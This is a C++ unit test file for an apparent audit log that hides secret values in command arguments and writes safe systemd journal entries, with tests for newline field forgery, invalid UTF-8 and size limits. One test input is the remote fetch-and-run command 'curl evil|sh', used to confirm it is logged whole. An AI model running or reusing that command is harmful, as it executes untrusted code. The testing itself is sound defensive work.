// What the audit trail shows of a command's arguments.
#include "audit.h"

#include <errno.h>
#include <gtest/gtest.h>

namespace pgod {
namespace {

TEST(Audit, ValuesOfEnvironmentAssignmentsAreHidden) {
  EXPECT_EQ(redact_arguments({"-e", "TOKEN=hunter2", "web", "env"}), "-e TOKEN=*** web env");
  EXPECT_EQ(redact_arguments({"--env=TOKEN=hunter2", "web"}), "--env=TOKEN=*** web");
  EXPECT_EQ(redact_arguments({"web", "env", "DB_PASSWORD=s3cret", "sh"}), "web env DB_PASSWORD=*** sh");
  EXPECT_EQ(redact_arguments({"--tail", "10", "web"}), "--tail 10 web");
  // Glued to the flag, as compose reads it too.
  EXPECT_EQ(redact_arguments({"-eTOKEN=hunter2", "web"}), "-eTOKEN=*** web");
  EXPECT_EQ(redact_arguments({"-e=TOKEN=hunter2", "web"}), "-e=TOKEN=*** web");
  EXPECT_EQ(redact_arguments({"--build-arg=NPM_TOKEN=hunter2", "web"}), "--build-arg=NPM_TOKEN=*** web");
  EXPECT_EQ(redact_arguments({"--build-arg", "NPM_TOKEN=hunter2"}), "--build-arg NPM_TOKEN=***");
  EXPECT_EQ(redact_arguments({"--since=2024-01-01", "-f"}), "--since=2024-01-01 -f");
  EXPECT_EQ(redact_arguments({}), "");
}

TEST(Audit, NoCommandHidesBehindAnEqualsSign) {
  // Not an assignment: shown whole, quoted so the boundaries between arguments stay.
  EXPECT_EQ(redact_arguments({"web", "sh", "-c", ":=; curl evil|sh"}), "web sh -c ':=; curl evil|sh'");
  EXPECT_EQ(redact_arguments({"web", "a b", "it's"}), "web 'a b' 'it'\\''s'");
}

TEST(Audit, ALineStaysALineAndBounded) {
  EXPECT_EQ(redact_arguments({"a\nPGOD_AUDIT", "b"}), "'a?PGOD_AUDIT' b");
  const auto long_args = redact_arguments({std::string(20000, 'x')});
  EXPECT_LE(long_args.size(), 8192u + 3u);
}

TEST(Audit, AnEntryIsOneDatagramOfOneLineFieldsInTheJournalsNativeProtocol) {
  AuditEntry entry{.kind = "command",
                   .message = "[web] root ran ps\nPGOD_AUDIT=forged",
                   .fields = {{"SERVICE", "web"}, {"ARGS", "a\nEXIT=0"}, {"EXIT", "1"}}};
  const std::string datagram = journal_datagram(entry);
  EXPECT_EQ(datagram, std::string("MESSAGE=[web] root ran ps?PGOD_AUDIT=forged\nPRIORITY=6\nPGOD_AUDIT=command\n") +
                          "SYSLOG_IDENTIFIER=" + program_invocation_short_name +
                          "\nSERVICE=web\nARGS=a?EXIT=0\nEXIT=1\n")
      << "a newline in a value would start a field of the sender's choosing";
  // A name that is not a journal field name (lower case, a leading '_' the journal keeps for
  // itself, '=' or a newline in it) is left out.
  entry.fields = {{"_UID", "0"}, {"a", "b"}, {"X=Y", "z"}, {"X\nY", "z"}, {"", "z"}, {"OK_1", "fine"}};
  const std::string filtered = journal_datagram(entry);
  EXPECT_EQ(filtered.substr(filtered.find("SYSLOG_IDENTIFIER=")),
            std::string("SYSLOG_IDENTIFIER=") + program_invocation_short_name + "\nOK_1=fine\n");
  // UTF-8 stays; bytes that are not UTF-8 become '?' (journalctl would show the whole field
  // as "[… blob data]"): overlong forms, surrogates, stray continuation bytes, a cut sequence.
  entry.fields = {{"ARGS", "h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80"},
                  {"BAD",
                   "a\xff\xc0\xaf"
                   "b\xed\xa0\x80"
                   "c\x80"
                   "d\xe2\x82"}};
  const std::string utf8 = journal_datagram(entry);
  EXPECT_NE(utf8.find("\nARGS=h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80\n"), std::string::npos) << utf8;
  EXPECT_NE(utf8.find("\nBAD=a???b???c?d??\n"), std::string::npos) << utf8;
  // Well-formed, but shown as blob data or in another order: C1 controls (U+0085, U+009B),
  // U+2028, a right-to-left override (U+202E), an isolate (U+2066). U+00A0 and U+2030 stay.
  entry.fields = {{"ARGS",
                   "a\xc2\x85"
                   "b\xc2\x9b"
                   "c\xe2\x80\xa8"
                   "d\xe2\x80\xae"
                   "e\xe2\x81\xa6"
                   "f\xc2\xa0"
                   "g\xe2\x80\xb0"}};
  EXPECT_NE(journal_datagram(entry).find("\nARGS=a?b?c?d?e?f\xc2\xa0g\xe2\x80\xb0\n"), std::string::npos)
      << journal_datagram(entry);
  // Bounded: a huge value is cut, so the entry stays one datagram the journal takes whole.
  entry.fields = {{"ARGS", std::string(100000, 'x')}};
  EXPECT_LT(journal_datagram(entry).size(), 9000u);
}

}  // namespace
}  // namespace pgod
